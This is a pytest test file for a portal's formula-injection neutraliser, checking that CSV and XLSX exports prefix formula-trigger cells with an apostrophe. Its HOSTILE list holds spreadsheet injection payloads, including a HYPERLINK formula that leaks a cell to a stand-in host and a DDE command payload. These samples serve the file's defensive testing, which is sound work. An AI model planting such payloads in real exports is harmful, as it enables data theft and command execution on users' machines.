"""Formula injection (issue #12, item 4): no text people typed reaches a spreadsheet as a formula.

One neutraliser (`portal.spreadsheets.neutralise`) serves every CSV and XLSX the portal writes;
these tests attack it directly and through each kind of export.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from portal.spreadsheets import csv_bytes, neutralise, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [-3, Decimal("-12.50"), 0.5, None, "锦绣花园", "3栋 502", ""])
def test_numbers_and_plain_text_pass_unchanged(value):
    assert neutralise(value) == value


def test_lazy_translations_are_neutralised_as_text():
    from django.utils.functional import lazy

    assert neutralise(lazy(lambda: "=1+1", str)()) == "'=1+1"


def test_csv_cells_never_start_with_a_formula_trigger():
    rows = list(csv.reader(io.StringIO(csv_bytes([HOSTILE, [-3, "ok"]]).decode("utf-8-sig"))))
    assert all(cell.startswith("'") for cell in rows[0])
    assert rows[1] == ["-3", "ok"]


def test_xlsx_text_is_a_string_cell_never_a_formula():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([HOSTILE, [-3, "ok"]], sheet="导出"))).active
    first = list(sheet.iter_rows(min_row=1, max_row=1))[0]
    assert [cell.data_type for cell in first] == ["s"] * len(HOSTILE)
    # XML keeps a carriage return as a line feed.
    assert [cell.value for cell in first] == ["'" + text.replace("\r", "\n") for text in HOSTILE]
    assert [cell.value for cell in sheet[2]][:2] == [-3, "ok"]
    assert [cell.data_type for cell in sheet[2]][:2] == ["n", "s"]


def test_xlsx_drops_characters_xml_cannot_carry_instead_of_failing():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([["王\x00芳\x1b", 1]], sheet="导出"))).active
    assert [cell.value for cell in sheet[1]][:2] == ["王芳", 1]
